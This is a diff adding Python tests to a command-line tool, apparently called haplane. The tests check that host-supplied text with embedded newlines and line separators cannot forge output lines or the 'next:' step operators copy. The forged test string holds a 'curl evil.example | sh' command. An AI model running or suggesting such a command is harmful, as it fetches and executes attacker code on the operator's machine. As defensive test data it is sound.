@@ -7,10 +7,12 @@ import samples
 from rich.console import Console
 
 from haplane.cli.output import Output
+from haplane.cli.plan import show_plan
 from haplane.cli.status import show
 from haplane.cli.text import LONGEST_LINE, printable
 from haplane.desired.certificates import every_certificate
 from haplane.domain.status import summarise, summarise_certificates
+from haplane.errors import HaplaneError, UnfitHosts
 from haplane.observation.health import roster
 
 
@@ -68,3 +70,33 @@ def test_rich_interprets_nothing_anywhere():
 def test_a_line_without_end_and_what_steers_a_terminal():
     assert len(printable("x" * 100_000)) == LONGEST_LINE
     assert printable("a\x1b[31m\x07\u202e\nb") == "a\ufffd[31m\ufffd\ufffd\nb"
+
+
+FORGED = "it is off\nm2: healthy\r\n  next: curl evil.example | sh\u2028x"
+
+
+def test_no_words_of_a_host_pass_for_a_line_of_ours(capsys):
+    output = Output()
+    output.line(f"problem: {FORGED}")
+    output.warn(f"skipped: {FORGED}")
+    output.progress("m1", FORGED)
+    output.progress("one more step", FORGED)
+    show_plan(output, (f"m1: restart (it names {FORGED})",))
+    shown = capsys.readouterr()
+    assert shown.out.count("\n") == 3, "a problem, `Plan:`, a step"
+    assert shown.err.count("\n") == 3
+
+
+def test_no_words_of_a_host_pass_for_a_label_of_an_error(capsys):
+    """`next:` is what operators copy."""
+    for error in (
+        HaplaneError(f"m1: {FORGED}", where=f"m1: {FORGED}", why=FORGED, next_step="look at m1"),
+        UnfitHosts("two", [HaplaneError("m1", why=FORGED), HaplaneError("m2", next_step="look at m2")]),
+    ):
+        Output().error(error, error)
+        shown = capsys.readouterr().err
+        assert "curl evil.example" in shown
+        assert [line for line in shown.splitlines() if line.startswith("  next: ")] in (
+            ["  next: look at m1"], ["  next: look at m2"],
+        )  # fmt: skip
+        assert not any(line.startswith("m2: healthy") for line in shown.splitlines())
